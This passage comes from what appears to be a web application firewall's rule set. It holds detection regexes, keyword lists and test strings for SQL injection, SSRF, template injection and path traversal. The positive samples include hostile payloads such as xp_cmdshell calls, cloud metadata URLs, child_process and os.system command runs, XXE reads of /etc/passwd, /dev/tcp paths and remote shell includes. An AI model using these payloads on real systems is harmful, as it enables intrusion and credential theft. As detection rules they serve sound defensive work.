                pattern: '\balter\s+(?:table|user|login|database)\s+[\w.`\[\]]+\s+(?:add|drop|modify|change|rename|set|identified|with)\s+\w|\bgrant\s+(?:all|select|insert|update|delete|execute|dba|file|super)\b(?:\s+privileges)?\s+(?:on|to)\s+[\w*.''"`@%]+|\bcreate\s+(?:user|login)\s+\S+\s+(?:identified|with\s+password|for\s+login)|\bhandler\s+\w+\s+(?:open|read)\b|\bset\s+global\s+\w+\s*=|\b(?:backup|restore)\s+database\s+\w+\s+(?:to|from)\s+disk\b|\bs?user_name\s*\(\s*[\d''"]*\s*\)\s*[=<>!|+]|\bselect\s+(?:[\w.]+\s*,\s*)*(?:\w*(?:password|passwd|pwd)\w*|user_?name|email|login|credit_?card\w*|cc_number)(?:\s*,\s*[\w.]+)*\s+from\s+[\w.`]+\s*(?:$|[;#)''"]|--|where\s+\w+\s*(?:[=<>]|like\b|in\b)|limit\s+\d)|^\s*(?:or|and|\|\||&&)\s+[\w''"]{1,20}\s*=\s*[\w''"]{1,20}\s*(?:$|#|--)|^\s*order\s+by\s+\d+\s*(?:--|#|/\*)|\blimit\s+\d+(?:\s*,\s*\d+)?\s+into\s+[@''"]'
                positive: ["select password from admin", "alter table users add x int", "grant all privileges on *.* to 'x'@'%'", "OR x=x", "OR x=y#", "ORDER BY 1--", "create user x identified by 'y'", "handler t open"]
                negative: ["select email from our list", "alter table runner", "grant wood print", "create user guide", "or so = yes and no", "order by 12", "and more", "select login from the menu"]
              - id: sqli-dialect
                reason: Casts, large objects, hints and drivers that only one database has and no value needs.
                parts: [path, name, parameter, cookie, body, header, user-agent, referer]
                literals: ["::", "lo_import", "lo_export", "lo_get", "unistr(", "placing", "msdasql", "sqloledb", "/*+", "pg_sleep", "pg_catalog", "pg_read", "pg_ls", "copy ", "dbms_", "utl_", "like null", "except values", "union values", "union all"]
                pattern: '[\w)''"]\s*::\s*(?:int\d?|integer|text|bool(?:ean)?|bigint|double\s+precision|numeric|varchar|regclass|date|json|uuid|char|float\d?|money|xml)\b|\blo_(?:import|export|get|create|put)\s*\(|\bunistr\s*\(|overlay\s*\([^)]*placing|[''"](?:msdasql|sqloledb)[''"]|/\*\+|^pg_catalog$|pg_(?:sleep|read_file|ls_dir|catalog\.\w+)\b\s*(?:\(|$|\.)|\bcopy\s+\S+\s+(?:from|to)\s+(?:program|stdin|[''"])|\b(?:dbms|utl)_\w+\.\w+|^like\s+null|(?:except|union)\s+values\s*\(|\d\s+union\s+all\b'
                positive: ["password::int", "lo_import('/etc/passwd')", "copy t from program 'id'", "'msdasql'", "except values(1,2)"]
                negative: ["std::vector", "a::b", "copy paper from x", "union all stars"]
              - id: sqli-boundary-number
                reason: Numbers at which old databases and interpreters overflow or hang.
                level: 2
                literals: ["4294967296", "2147483648", "0000023450", "2.2250738585072007e-308", "2.2250738585072011e-308", "1e309", "184467440737095", "-2147483649"]
                pattern: '^(?:-?4294967296|-?214748364[89]|0000023450|2\.22507385850720\d{2}e-308|1e309|18446744073709551\d{3})$'
                positive: ["2.2250738585072011e-308", "4294967296"]
                negative: ["42949672961", "1e30"]
              - id: sqli-mssql-procedures
                reason: Stored procedures of SQL Server that run programs, read the registry or mail results.
                literals: ["xp_", "sp_", "openquery", "opendatasource", "openrowset"]
                pattern: '\b(?:xp_(?:cmdshell|reg(?:read|write|enumvalues|deletekey)|dirtree|fileexist|subdirs|loginconfig|servicecontrol|availablemedia|enumdsn|makecab|ntsec\w+|terminate\w*|sprintf|sqlinventory|filelist)|sp_(?:executesql|password|oacreate|oamethod|makewebtask|configure|addextendedproc|start_job|help\w*|who|sqlexec|replwritetovarbin)|open(?:query|rowset|datasource)\s*\()'
                positive: ["exec master..xp_cmdshell 'dir'", "sp_executesql"]
                negative: ["xp_points", "sp_zoom"]
              - id: sqli-error-message
                reason: Syntax that only an injection has - a quote, then an operator that never stands in text, then a quote.
                view: sql
                level: 2
                severity: critical
                literals: ["'"]
                pattern: '''\s*(?:=|<>|!=|<=>|\|\||&&|>=|<=|:=|\^)\s*(?:''|\d|\()'
                positive: ["'='", "x'||'y"]
                negative: ["l'hospitalet", "o'neill"]
              - id: sqli-piece
                reason: A piece of SQL alone in a parameter, as somebody sends who tries what gets through; a mark for those who count them.
                literals: ["(", "union", "information_schema", ",null", "select", "@@", "sysobjects", "having", "order by"]
                parts: [parameter]
                pattern: '^\W*(?:select)?(?:chr|char|distinct|pg_sleep|sleep|upper|lower|hex|unhex|md5|sha1|benchmark|load_file|substr|substring|concat\w*|group_concat|ascii|ord|mid|version|database|user|extractvalue|updatexml|waitfor|cast|convert|count|ifnull|if)\s*\($|^\s*union(?: all| distinct)?(?: select)?\s*$|^(?:,null)+$|^\W*information_schema(?:\.\w+)?$|^\W*@@\w+$|^\W*(?:having|order by) \d+\W*$'
                severity: mark
                positive: ["sleep(", "||chr(", " union all select ", ",null,null", "information_schema.tables", "@@version"]
                negative: ["union jack", "select", "sleep (well)", "user guide", "having fun"]
            """#
        ),
        (
            "alerts/waf/ssrf.yaml",
            #"""
            # Requests that the server is made to send: internal addresses and how they are disguised, metadata services, unusual schemes.
            family: ssrf
            definitions:
              schemes: 'https?|ftps?|sftp|gopher|dict|ldaps?|tftp|netdoc|jar|local_file|file|ssh|smb|imaps?|pop3s?|smtps?|rtsp|rtmp|telnet|irc|rsync|svn(?:\+ssh)?|git|xri|acap|cvs|dns|nfs|mms|mailto|news|nntp|vnc|ws|wss|mongodb|redis|mysql|jdbc:\w+|php|feed|view-source|chrome|aaas?|about|afp|cap|cid|crid|data|dav|dict|dtn|fax|geo|go|h323|iax|icap|im|info|ipp|iris|magnet|mid|modem|mtqp|mupdate|msrp|opaquelocktoken|pack|pkcs11|pres|prospero|reload|res|rtspu|session|shttp|sieve|sip|sips|sms|snmp|soap\.beep|tag|tel|tip|tn3270|turn|tv|urn|vemmi|wais|xcon|xmlrpc\.beep|xmpp|z39\.50r|z39\.50s|secondlife|ed2k|slp|maven|phar|ogg|expect'
            rules:
              - id: ssrf-metadata
                reason: The metadata services of clouds, which hand out credentials to whoever asks from within.
                literals: ["169.254.169.254", "metadata.google", "100.100.100.200", "/latest/meta-data", "instance-data", "/metadata/instance", "169.254.", "fd00:ec2", "192.0.0.192", "computemetadata", "metadata.packet", "/opc/v1", "/latest/user-data", "169.254.170.2", "/metadata/v1", "rancher-metadata"]
                pattern: '(?:^|//|@)169\.254\.(?:169\.25[34]|170\.2|\d+)|metadata\.(?:google|packet|nicv?e?)|100\.100\.100\.200|/latest/(?:meta|user|dynamic)-?\w*|instance-data|/metadata/(?:instance|v\d)|fd00:ec2|192\.0\.0\.192|computemetadata|/opc/v\d|rancher-metadata'
                positive: ["http://169.254.169.254/latest/meta-data/", "http://metadata.google.internal/"]
                negative: ["1.169.254.1", "metadata of photos"]
                parts: [path, name, parameter, cookie, body]
              - id: ssrf-scheme
                reason: A scheme that no page links to, but that libraries for fetching know.
                literals: ["gopher:", "dict:", "ldap:", "ldaps:", "tftp:", "netdoc:", "jar:", "local_file:", "sftp:", "rsync:", "svn", "imap:", "pop3:", "smb:", "rtsp:", "rtmp:", "telnet:", "acap:", "xri:", "mongodb:", "redis:", "smtp:", "ssh:", "irc:", "nfs:", "jdbc:", "git:", "feed:", "view-source:"]
                pattern: '(?:^|[^a-z0-9+.-])(?:gopher|dict|ldaps?|tftp|netdoc|local_file|sftp|rsync|svn(?:\+ssh)?|imaps?|pop3s?|smb|rtsp|rtmp|telnet|acap|xri|mongodb|redis|smtps?|ssh|ircs?|nfs|git)://|jdbc:\w+:|\bjar:(?:https?|file):'
                positive: ["gopher://127.0.0.1:6379/_x", "dict://x:11211/", "ldap://x.example"]
                negative: ["addict: me", "https://shop.example"]
                parts: [path, name, parameter, cookie, body]
              - id: ssrf-local-address
                reason: A URL in a parameter leads to the machine itself or into a private network.
                literals: ["localhost", "127.", "0.0.0.0", "[::", "10.", "192.168.", "172.", "::1", "0177", "0x7f", "[0:", ".local", ".internal", "[f", "://0", "://[", "lvh.me", "nip.io", "xip.io", "localtest.me", "sslip.io"]
                pattern: '(?:{{schemes}}):/{0,2}[^/?#]{0,80}?(?:@|//|:|^)?(?:localhost|127(?:\.\d+){1,3}|0\.0\.0\.0|0\b(?:/|:|$)|10(?:\.\d{1,3}){3}|192\.168(?:\.\d{1,3}){2}|172\.(?:1[6-9]|2\d|3[01])(?:\.\d{1,3}){2}|\[[0-9a-f:.%\w]{2,60}\]|[\w-]+\.(?:local|internal|localdomain|nip\.io|xip\.io|sslip\.io)|lvh\.me|localtest\.me)(?:[:/?#\s]|$)'
                positive: ["http://localhost/admin", "http://127.0.0.1:22", "http://[::1]/", "http://10.0.0.5/x", "https://a@127.1/"]
                negative: ["https://www.localhost-shop.example/", "http://110.10.10.1.example/", "version 10.1"]
                parts: [name, parameter, cookie, body]
              - id: ssrf-numeric-host
                reason: A host written as a number, in octal or hexadecimal, in parts too few, or in enclosed characters, hides an address.
                literals: ["://0x", "://0", "://1", "://2", "://3", "://4", "://5", "://6", "://7", "://8", "://9", ":0x", ":1", ":2", ":0", "://[", ":[", ":/", ".0x", "//\\"]
                pattern: '(?:{{schemes}}):/{0,2}(?:[^/?#@\s]{0,60}@)?(?:0x[0-9a-f]{8,16}|0x[0-9a-f]+(?:\.(?:0x[0-9a-f]+|\d+)){3}|0\d{1,16}(?:\.\d{1,16}){0,3}|\d{8,12}|\d{1,3}\.\d{4,10}|\d{1,3}\.\d{1,3}\.\d{3,8}|\d{1,3}(?:\.0x[0-9a-f]+){1,3}|\[[0-9a-f:]*:[0-9a-f:.]*(?:%\w+)?\])(?:[:/?#\s]|$)|://(?:\\+\w){2,}'
                positive: ["http://2130706433/", "http://0x7f000001", "http://0177.0.0.1/", "http://[::ffff:a9fe:a9fe]", "http:2852039166"]
                negative: ["http://192.0.2.10/", "https://3dprint.example/", "http://360.example"]
                parts: [name, parameter, cookie, body]
              - id: ssrf-odd-host
                reason: Enclosed or ideographic characters in a host, which name preparation turns into ASCII.
                literals: ["\u2460", "\u24db", "\u24c1", "\u3002", "\u2461", "\u24ea", "\u2462", "\u2463", "\u2464", "\u2465", "\uff61"]
                pattern: '://[^/\s]*(?:\xe2\x91[\xa0-\xbf]|\xe2\x92[\x80-\xbf]|\xe2\x93[\x80-\xbf]|\xe3\x80\x82|\xef\xbd\xa1)'
                positive: ["http://①⑥⑨.②⑤④/", "http://169。254。169。254/"]
                negative: ["① first", "東京。"]
                parts: [name, parameter, cookie, body]
              - id: ssrf-authority-confusion
                reason: A URL with several at-signs, ports and fragments that parsers read as different hosts.
                literals: ["@", "\\@", "#@"]
                pattern: '(?:https?|ftp)://[^/?\s]{1,80}(?::\d+)?\s*[&#\\]+\s*@[^/\s]{1,80}(?::\d+)?|(?:https?|ftp):[/\\]{2,}[^/\s]*@(?:\d{1,3}\.){3}\d{1,3}'
                positive: ["http://google.com:80 &@127.88.23.245:22/#", "http://x.example#@192.0.2.1/"]
                negative: ["https://a.example/@user", "mail me @ home"]
                parts: [name, parameter, cookie, body]
              - id: ssrf-callback-host
                reason: Hosts that tell a tester that a request came, which no shop links to.
                literals: ["oastify.com", "burpcollaborator", "interact.sh", "oast.", "dnslog", "ceye.io", "requestbin", "webhook.site", "canarytokens", "pingb.in", "r87.me", "bxss.me", "xss.ht", "ngrok", "beeceptor", "pipedream.net", "dnsbin", "1u.ms"]
                pattern: '(?:\boastify\.com|burpcollaborator\.net|interact\.sh|\boast\.(?:fun|live|me|online|pro|site|us)|dnslog\.\w+|ceye\.io|requestbin\.\w+|webhook\.site|canarytokens\.\w+|pingb\.in|r87\.me|bxss\.me|xss\.ht|ngrok(?:-free)?\.\w+|beeceptor\.com|pipedream\.net|dnsbin\.\w+|\b1u\.ms)'
                positive: ["http://abc.oastify.com/", "x.burpcollaborator.net"]
                negative: ["coast.example", "toast.live cooking"]
                parts: [path, name, parameter, cookie, body, header, user-agent, referer, host]
            """#
        ),
        (
            "alerts/waf/ssti.yaml",
            #"""
            # Template engines and other interpreters on the server: expressions, prototypes, code of Node, Perl, Ruby and Python.
            family: ssti
            rules:
              - id: ssti-arithmetic
                reason: An expression in template braces computes something, to see whether the server does.
                literals: ["{{", "${", "#{", "<%", "{%", "*{", "@(", "[[", "%{", "$("]
                pattern: '(?:\{\{|[$#*%@]\{|<%=?|@\(|\[\[)-?\s*[''"]?\d+[''"]?\s*[*+/ -]\s*[''"]?\d+[''"]?\s*-?(?:\}\}?|%>|\)|\]\])'
                positive: ["{{7*7}}", "${7*7}", "#{7*'7'}", "<%= 7 * 7 %>", "@(1+2)"]
                negative: ["{{name}}", "(7*7)", "${5}"]
              - id: ssti-engine
                reason: Objects of template engines through which their sandbox is left.
                literals: ["{{", "{%", "<%", "${", "__class__", "__mro__", "__globals__", "__builtins__", "__import__", "__subclasses__", "freemarker", "<#assign", "#set(", "$class", "_self.env", "{php}", "{literal}", "smarty", "lipsum", "cycler", "#include", "<#", "twig", "mako", "__init__"]
                pattern: '<%=?\s*(?:if|for|import|include|require|system|exec|request|response)\b|__(?:class|mro|globals|builtins|import|subclasses|base|bases|init|getattribute|dict|code|reduce)__|freemarker\.|<#(?:assign|import|include|list|setting)\b|#(?:set|include|parse|evaluate|foreach)\s*\(|\$class\.(?:inspect|type)|_self\.(?:env|display)|\{\{\s*(?:config|self|request|settings|_self|url_for|get_flashed_messages|lipsum|cycler|joiner|namespace|app|range|dump|this|constructor|\[\]|\(\)|[''"]{2})\b?\s*[.|\[(}]|\{%\s*(?:import|include|set|for|if|extends|raw|autoescape|debug)\b[^%]*(?:%\}|\(|_)|\$smarty|\{(?:literal|php|system|math)\b|\{\{[^}]*\|\s*(?:attr|map|filter|join|sort|e\b|reduce|system|passthru)'
                positive: ["{{config.items()}}", "{{''.__class__.__mro__}}", "<#assign x=1>", "#set($x=1)", "{{_self.env.x}}"]
                negative: ["{{product.name}}", "class __x", "{% $x|y %}"]
              - id: ssti-prototype
                reason: The prototype of JavaScript objects is reached through a name.
                literals: ["__proto__", "constructor", "prototype"]
                parts: [path, name, parameter, cookie, body]
                pattern: '__proto__|constructor\s*(?:\.|\[[''"]?|\]\s*\[|:)\s*(?:prototype|constructor)|\bprototype\s*[.\[\]=]|\[constructor\]|\bthis\.constructor'
                positive: ["__proto__[admin]=1", "constructor.prototype.x", "a[constructor][prototype][b]"]
                negative: ["prototype car", "constructor toys"]
              - id: ssti-node
                reason: Modules and objects of Node.js that run commands, load code or tell the environment.
                literals: ["process", "require", "child_process", "console", "module.exports", "_$$nd_func", "__js_function", "new function", "function(", "function (", "readdirsync", "spawn", "eval(", "string.fromcharcode", "fs.", "global.", "_load(", "resolved_model", "_prefix", "this.constructor"]
                pattern: '\bprocess\s*(?:\.\s*(?:env|binding|mainmodule|exit|kill|version|argv|cwd|dlopen|platform|nexttick)|\[)|\brequire\s*(?:\(\s*[''"a-z.]+\s*\)\s*[.;]|\(\s*[''"]|\[|\.(?:main|cache|resolve))|child_process|\bconsole\s*(?:\.\s*(?:log|info|error|debug|warn|table|trace|dir|time|count|group|assert)\b|\[\s*[''"])|module\.exports\s*=|_\$\$nd_func|__js_function|new\s+function\s*\(|function\s*\(\s*\)\s*\{|\b(?:readdir|readfile|writefile|exec|spawn|execfile)sync\b|\.\s*spawn\s*\(|eval\s*\(\s*string\.fromcharcode|resolved_model|\bglobal\.process'
                positive: ["require('child_process').exec('id')", "process.env", "console.log(1)", "_$$ND_FUNC$$_", "function() {"]
                negative: ["process of dyeing", "we require (two)", "console table"]
              - id: ssti-endless-loop
                reason: A loop of JavaScript that never ends, to stop the server that evaluates it.
                literals: ["while", "for(;;", "for (;;"]
                pattern: '\bwhile\s*\(+\s*(?:(?:!!)*\s*(?:true|[+-]?[1-9]\d*|[+-]?infinity|this|string|number|object|array|new\s+\w+|\{\}|\[\])|!\s*(?:[+-]?0|false|null|undefined|nan|""|''''|``)|!!(?:""|''''|``))\s*\)|\bfor\s*\(\s*;\s*;'
                positive: ["while(true);", "while(!0)", "while(new Date);", "for(;;){}"]
                negative: ["while (stocks last)", "for (women)"]
              - id: ssti-orm-lookup
                reason: A look-up of an object mapper follows relations to fields that the form does not show.
                literals: ["__"]
                parts: [name]
                pattern: '^\w+?__\w+?__(?:i?exact|i?contains|i?startswith|i?endswith|i?regex|gte?|lte?|in|range|isnull|has_keys?|has_any_keys|search)$|^\w+__has_(?:keys?|any_keys)$'
                positive: ["user__profile__icontains", "user__password__startswith"]
                negative: ["price__gte", "utm__source"]
              - id: ssti-perl-ruby-python
                reason: Interpolation of Perl and Ruby, and what runs code in Python and Ruby.
                literals: ["@{[", "@{ [", "#{", "os.system", "subprocess", "__import__", "kernel.", "io.popen", "process.spawn", "eval(compile", "exec(", "os.popen", "%x(", "%x{", "open3", "file.read", "pickle", "import os", "@{\n", "@{", "ruby", "process.clock", "sh -c"]
                pattern: '@\s*\{\s*\[|#\{\s*(?:`|%x|system|exec|io\.|file\.|kernel|process|eval|open|\d+\s*[*+-]|require|global)|\bos\.(?:system|popen|exec\w*|spawn\w*|environ|listdir)\b|\bsubprocess\.(?:call|popen|run|check_\w+)|__import__\s*\(|\bkernel\.(?:system|exec|open|fork)|\bio\.(?:popen|read|sysopen)|process\.(?:spawn|clock_gettime|exec|fork)|%x[({\[]|\bopen3\.\w+|(?:^|[;\n{(''"])\s*import\s+(?:os|subprocess|socket|sys|pty)\s*(?:$|[;,\n.])|\bfile\.(?:read|open|write|delete)\s*[(''"]'
                positive: ["@{[system 'id']}", "#{`id`}", "os.system('id')", "import os;", "__import__('os')"]
                negative: ["python import os tutorial", "import oscillator", "#{name}", "os x"]
              - id: ssti-xml-entities
                reason: XML with entities, includes or stylesheets that read files.
                literals: ["<!entity", "<!doctype", "xi:include", "<xsl:", "xsl:", "system \""]
                pattern: '<!entity\s|<!doctype\s[^>]{0,200}(?:system|public|\[)|<xi:include|<xsl:(?:value-of|include|import|stylesheet)'
                positive: ["<!ENTITY x SYSTEM \"file:///etc/passwd\">", "<xi:include href='x'/>"]
                negative: ["<!doctype html>", "entity"]
              - id: ssti-xpath
                reason: XPath that closes the program's condition and asks for other nodes.
                literals: ["::", "text()", "node()", "position()", "name(", "string-length(", "count(/", "//user", "]|//"]
                pattern: '(?:child|parent|ancestor|descendant|following|preceding|self|attribute)(?:-or-self|-sibling)?::(?:\*|node|text|\w)|\b(?:text|node|position|last|comment)\(\)\s*(?:=|\]|\[|/|and|or)|count\(/|string-length\(\s*(?:name|//?)|\]\s*\|\s*//'
                positive: ["' or name()='x' or '//child::node()", "x]|//user/*", "count(/*)"]
                negative: ["std::vector", "count (12)"]
            """#
        ),
        (
            "alerts/waf/traversal.yaml",
            #"""
            # Ways out of the document root, files read or included that no visitor names.
            family: traversal
            definitions:
              unixfiles: 'etc/(?:passwd|shadow|group|hosts|issue|motd|hostname|fstab|crontab|sudoers|resolv\.conf|my\.cnf|mysql/|nginx/|apache2?/|httpd/|ssh/|ssl/|php|profile|environment|master\.passwd|security/|redhat-release|os-release|debian_version|network|sysconfig|init\.d)|proc/(?:self|version|cmdline|cpuinfo|\d+|net|mounts|meminfo|stat|sched_debug|sys)|var/(?:log|mail|spool|run|lib|backups|www)/|root/\.\w|home/[^/]+/\.|usr/local/|opt/lampp|dev/(?:tcp|udp|random|urandom|zero|null|fd|stdin|shm)|sys/(?:class|devices|kernel)|private/etc'
            rules:
              - id: traversal-dot-segments
                reason: Dots between slashes lead out of the folder; browsers resolve them, so that a path that has them is no link's.
                view: path
                parts: [path, name]
                literals: ["../", "/..", ".../"]
                pattern: '(?:^|[^a-z0-9.])\.\.+/(?:\.+/|[\w{%$*.-]|$)|/\.{2,}(?:/|$|[;#?{\x00])|^\.{2,}/'
                positive: ["../../etc/passwd", "..%2f..%2f", "..\\..\\windows", "%c0%ae%c0%ae%c0%afx", "/....//....//x", "/.../x", "..%255c..%255c", "img/..%00/x"]
                negative: ["and so on.../", "a../b", "10.../12", "wait...", "v1..2/3"]
              - id: traversal-dot-value
                reason: Dots between slashes in a value lead out of the folder - several times, from the root, to nothing, or to what is no picture, style or page.
                view: path
                parts: [parameter, cookie, body, referer]
                literals: ["../", "/..", ".../"]
                pattern: '(?:^|[^a-z0-9.])\.{2,}/(?:[^\s<>"'']*/)?\.{2,}(?:/|$|[;#?{\x00])|^/?\.{2,}/?(?:$|[;#?{%$*\x00])|(?:^|[^a-z0-9.])\.{2,}/(?:$|[{%$*;#?\x00])|^/\.{2,}/|/\.{2,}[;#?{\x00]|/\.{3,}/|^\.{3,}/|(?:^|[^a-z0-9.])\.{2,}/[\w./-]*(?:\.(?:php\w?|phtml|phar|aspx?|ashx|jspx?|cgi|p[ly]|rb|ini|co?nf|cfg|config|xml|ya?ml|json|env|log|bak|old|orig|save|swp|sql|db|sqlite|inc|sh|bat|cmd|exe|dll|so|key|pem|crt|asa|mdb|dat|tar|t?gz|zip|local|lock|properties|class|jar|war|passwd)\b|(?:^|/)\.\w|\b(?:etc|proc|windows|winnt|bin|tmp|root|app|config|admin|web-inf|meta-inf|cgi-bin|home|usr|var|vendor|secrets?|private|backups?|data|logs?|includes?|system\w*|boot|inetpub|conf|src)/|\x00)'
                positive: ["../../x", "..%2f..%2f", "..\\..\\windows", "%c0%ae%c0%ae%c0%af", "/....//....//x", "/.../x", "..%255c..%255c", "../", "/../x", "/..{file}", "../index.php", "../app/x", "images/../../x"]
                negative: ["../images/logo.png", "<a href=\"../about.html\">", "images/../logo.png", "http://shop.example/a/b/../c", "and so on.../", "a../b", "10.../12", "wait...", "v1..2/3"]
              - id: traversal-dot-run
                reason: Dots in a row before a file's name are a way out whose separators a filter has eaten.
                literals: ["...."]
                pattern: '(?:^|[/\\=])\.{4,}[\\/]*[a-z{%][\w{}.\\/%-]*'
                positive: ["........etcpasswd", "/......{file}", "....web-inf", "/..../x"]
                negative: ["wait........", "a....b", "price .... 5"]
              - id: traversal-encoded-separators
                reason: Dots or separators written as numbers or overlong bytes; nothing ordinary writes them so.
                view: raw
                literals: ["0x2e", "0x2f", "0x5c", "%c0%ae", "%c0%af", "%e0%80%ae", "%e0%80%af", "%c1%9c", "%uff0e", "%u2215", "%u2216", "%252e", "%%32", "x2e0x2e", "%c0%2e", "%c0.", "%c0%2f", "%f0%80%80%ae", "%c1%1c", "%c0%9v", "%bg%qf", "%uef"]
                parts: [path, name, parameter, cookie, body]
                pattern: '(?:0x2[ef]|0x5c){1,}.{0,3}(?:0x2[ef]|0x5c)|\.\.(?:0x2f|0x5c)|%c0%(?:ae|af|2e|2f|9v)|%c0\.|%e0%80%a[ef]|%f0%80%80%a[ef]|%c1%(?:9c|1c)|%u(?:ff0e|2215|2216|002e|002f|005c|ef0[ef])|(?:%252e){2}|%252e%252f|\.\.%255c|\.\.%252f|%%3\d%%?\d\d|%bg%qf'
                positive: ["/0x2e0x2e/0x2e0x2e/x", "..0x2f..0x2f", "%c0%ae%c0%ae/", "%252e%252e%252f", "..0x5c..0x5cx"]
                negative: ["0x2e4f", "color=0x2f"]
              - id: traversal-self-segments
                reason: Segments that stay where they are, in a row, hide or pad a path.
                literals: ["/./", "/.//"]
                pattern: '(?:/\.){2,}/|^/\.+/+$|(?:/\./+){2,}|/\.//|^/\./\S*$'
                parts: [name, parameter, cookie, body]
                positive: ["/./././x", "/./", "/.//././/{file}"]
                negative: ["./a", "a/./b"]
              - id: traversal-padding
                reason: A path of one byte repeated beyond any name's length seeks an overflow or pushes a suffix off the end.
                literals: ["aaaaaaaaaaaaaaaa", "////////////////", "/././././././.", "................", "xxxxxxxxxxxxxxxx", "iiiiiiiiiiiiiiii"]
                parts: [path, name, parameter, cookie, body]
                pattern: '^[/\\.]?a{200,}|^[/\\.]?x{200,}|/{16,}|(?:/\.){16,}|\.{40,}|^[/\\.]?[bi]{200,}|a{500,}'
                positive: ["/././././././././././././././././././././././", "////////////////////x", "........................................"]
                negative: ["aaaaaaaaaaaaaaaaaaaah", "xxxxxxxxxxxxxxxxxxxl"]
              - id: traversal-system-file
                reason: A file of the operating system that only an intruder reads through a shop.
                view: path
                literals: ["etc/", "proc/", "var/log", "var/www", "root/.", "home/", "var/", "/dev/", "usr/local/", "opt/lampp", "sys/", "etcpasswd", "etcshadow", "private/etc", "tmp/sess_", "opt/", "local.xml", ":/xampp", ":/wamp", ":/apache", ":/nginx", ":/php"]
                parts: [path, name, parameter, cookie, body, header, user-agent, referer]
                pattern: '(?:^|[^a-z0-9])(?:{{unixfiles}}|tmp/sess_|opt/[\w.-]+/(?:[\w.-]+/){0,4}(?:conf|etc|logs?)/|(?:etc|errors)/local\.xml)|\.\.etc(?:passwd|shadow|hosts)|^[a-z]:/(?:xampp|wamp\w*|apache\w*|nginx|php\w*)/'
                positive: ["/etc/passwd", "file:///etc/shadow", "/proc/self/environ", "....etcpasswd", "/var/log/nginx/access.log", "/dev/tcp/1.2.3.4/80"]
                negative: ["hammers, screws, etc/other", "/var/a", "process/self", "home/decor"]
              - id: traversal-windows-file
                reason: A file or folder of Windows that only an intruder reads.
                view: path
                literals: ["boot.ini", "win.ini", "system.ini", "oot.ini", "windows/", "winnt", "inetpub", "global.asa", "system32", "autoexec.bat", "php.ini", "sam._", "repair/sam", "desktop.ini", "inetsrv", "windows win", "windowswin"]
                pattern: '\b(?:boot|win|system|php|my|desktop)\.ini\b|\boot\.ini|(?:windows|winnt)/?(?:system32|win\.ini|repair|php|debug|panther|temp|inf)|\binetpub|global\.asa|system32|autoexec\.bat|repair/sam|inetsrv|applicationhost\.config'
                parts: [path, name, parameter, cookie, body]
                positive: ["c:\\boot.ini", "../windows/win.ini", "c:/inetpub/wwwroot/global.asa", "......oot.ini", "/winnt/system32/cmd.exe"]
                negative: ["windows 11 licence", "mini boots", "cabinet.ini"]
              - id: traversal-application-file
                reason: An application's own configuration or its folders that are never served.
                view: path
                literals: ["web-inf", "meta-inf", "web.config", ".htaccess", ".htpasswd", "wp-config", "app/etc/", "local.xml", "database.yml", ".env", ".git/", ".svn/", ".hg/", ".bash_history", ".ssh/", "id_rsa", ".aws/", "secrets.yml", "settings.py", "composer.json", "docker-compose", "authorized_keys", ".npmrc", ".pgpass", ".netrc", "application.properties", "application.yml", "appsettings.json", ".mysql_history", ".viminfo", ".dockerenv", ".subversion", ".kube/", "known_hosts", ".profile", ".bashrc", ".zsh_history", ".my.cnf", ".gitconfig", ".boto", ".s3cfg"]
                pattern: '(?:web|meta)-inf|web\.config|\.ht(?:access|passwd|group)|wp-config\.(?:php|bak|txt|old)|app/etc/(?:env|local|config)|(?:^|/)\.(?:env|git|svn|hg|ssh|aws|bash_history|bashrc|zsh_history|profile|npmrc|pgpass|netrc|my\.cnf|mysql_history|viminfo|dockerenv|subversion|kube|boto|s3cfg|gitconfig)(?:/|$|\.|\?)|id_[rd]sa\b|authorized_keys|known_hosts|(?:database|secrets)\.yml|application\.(?:properties|yml)|appsettings\.json|docker-compose\.ya?ml'
                parts: [name, parameter, cookie, body]
                positive: ["WEB-INF/web.xml", "web-infweb.xml", ".git/config", "../app/etc/env.php", ".env"]
                negative: ["environment", "git course", "web configuration"]
              - id: traversal-stream-wrapper
                reason: A stream wrapper reads or runs what a plain path cannot.
                literals: ["php://", "file:/", "phar:", "zip:", "data:", "expect:", "glob://", "ogg://", "zlib:", "compress.", "ssh2.", "rar:", "jar:", "netdoc:"]
                pattern: '(?:^|[^a-z0-9+.-])(?:php://(?:filter|input|memory|temp|output|fd|std)|file:/|phar://|(?:zip|rar|glob|ogg|expect|netdoc)://|compress\.(?:zlib|bzip2)://|zlib:|ssh2\.\w+://|jar:(?:https?|file):|data:(?:text/(?:plain|php|x-php)|application/x-httpd-php|;base64|//))'
                positive: ["php://filter/convert.base64-encode/resource=index", "file:///etc/hosts", "expect://id", "file:/boot.ini", "data://text/plain;base64,x"]
                negative: ["profile: x", "data: text", "zip: 28001", "unzip://"]
              - id: traversal-remote-include
                reason: A parameter that names a file to include names one on another host, with the tricks that include needs.
                literals: ["http:", "https:", "ftp:", "ftps:", "\\\\", "//", "http?", "https?", "ftp?", "ftps?", "file?"]
                parts: [parameter, body, cookie]
                pattern: '^(?:file|ftps?|https?)\?|^\s*(?:ftp|https?)s?://(?:\[[0-9a-f:.]+\]|(?:[0-9a-f]{1,4}:+){3,7}[0-9a-f]{1,4})/|^\s*(?:ftp|https?)s?://(?:\d{1,3}\.){3}\d{1,3}(?::\d+)?(?:/|$)|^\s*(?:ftp|https?)s?://[^?#\s]*\?+$|^\s*(?:ftp|https?)s?://[^?\s]*\.(?:txt|php\d?|inc|gif|jpg)\?+|^\s*(?:ftps?|sftp|smb)://|^\\\\\\\\[\w.]+\\\\\w'
                positive: ["http://192.0.2.1/shell.txt", "http://evil.example/c99.txt?", "ftp://x.example/a.php", "https://evil.example/x??"]
                negative: ["https://shop.example/page?x=1", "http://www.example.com/", "//cdn.example/x"]
              - id: traversal-null-byte
                reason: A NUL byte ends a path early in C, so that a suffix that the program adds is lost.
                view: raw
                literals: ["%00", "\\0", "%2500", "\\x00"]
                pattern: '%(?:25)?00(?:\.\w{2,5})?(?:$|[&;?])|(?:\.\w+|/\w+)%(?:25)?00|\\x00$|%00'
                positive: ["index.php%00.jpg", "../x%00"]
                negative: ["5%2000"]
                severity: warning
              - id: traversal-placeholder
                reason: A list of attacks was sent with its placeholder for the file left as it was.
                literals: ["{file}", "{filename}", "{path}", "{lfi}", "§", "fuzz"]
                pattern: '[/\\.]\w{0,8}\{(?:file|filename|path|lfi)\}|§\w*§|^/?fuzz/?$|/fuzz$'
                positive: ["//{file}", "/..{file}", "/../{FILE}"]
                negative: ["{name}", "fuzzy socks"]
            """#
        ),
        (
            "alerts/waf/xss.yaml",
            #"""
